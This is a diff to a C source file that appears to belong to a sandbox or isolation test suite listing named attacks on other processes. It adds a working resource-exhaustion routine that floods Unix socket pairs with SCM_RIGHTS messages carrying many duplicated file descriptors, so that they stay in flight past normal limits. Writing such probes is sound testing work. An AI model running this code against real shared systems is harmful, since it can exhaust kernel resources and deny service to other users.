@@ -1,16 +1,22 @@
 /* Reaching other processes, becoming somebody else, taking everything. */
+#include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
+#include <string.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <unistd.h>
 
 #include "attack.h"
+
+#define MOST_SENT 253 /* descriptors in one message */
 
 /* One that nobody notices; the right to send it is the right to send SIGKILL. */
 static long try_signal(char **args)
@@ -121,6 +127,50 @@ static long count_files(char **args)
 	return -1;
 }
 
+/* Sends one descriptor as often as one message can hold it, until the socket is full. */
+static bool fill_socket(const int pair[2])
+{
+	union {
+		struct cmsghdr align;
+		char bytes[CMSG_SPACE(MOST_SENT * sizeof(int))];
+	} control = {0};
+	char byte = 0;
+	struct iovec iov = {&byte, 1};
+	struct msghdr msg = {.msg_iov = &iov,
+	                     .msg_iovlen = 1,
+	                     .msg_control = control.bytes,
+	                     .msg_controllen = sizeof(control.bytes)};
+	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+	int fds[MOST_SENT];
+
+	for (int i = 0; i < MOST_SENT; i++)
+		fds[i] = pair[0];
+	c->cmsg_level = SOL_SOCKET;
+	c->cmsg_type = SCM_RIGHTS;
+	c->cmsg_len = CMSG_LEN(sizeof(fds));
+	memcpy(CMSG_DATA(c), fds, sizeof(fds));
+	while (sendmsg(pair[1], &msg, MSG_DONTWAIT) >= 0)
+		;
+	return errno == EAGAIN;
+}
+
+/* All descriptors that may be under way, and stays; makes the file UP then. */
+static long stay_in_flight(char **args)
+{
+	struct rlimit limit;
+	int pair[2];
+
+	getrlimit(RLIMIT_NOFILE, &limit);
+	limit.rlim_cur = limit.rlim_max;
+	setrlimit(RLIMIT_NOFILE, &limit);
+	while (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0 && fill_socket(pair))
+		;
+	if (!args[0] || creat(args[0], 0600) < 0)
+		return -1;
+	for (;;)
+		pause();
+}
+
 const struct attack attack_procs[] = {
         {"signal", try_signal},
         {"pidfd", try_pidfd},
@@ -135,5 +185,6 @@ const struct attack attack_procs[] = {
         {"processes", count_processes},
         {"memory", try_memory},
         {"files", count_files},
+        {"in-flight", stay_in_flight},
         {0},
 };
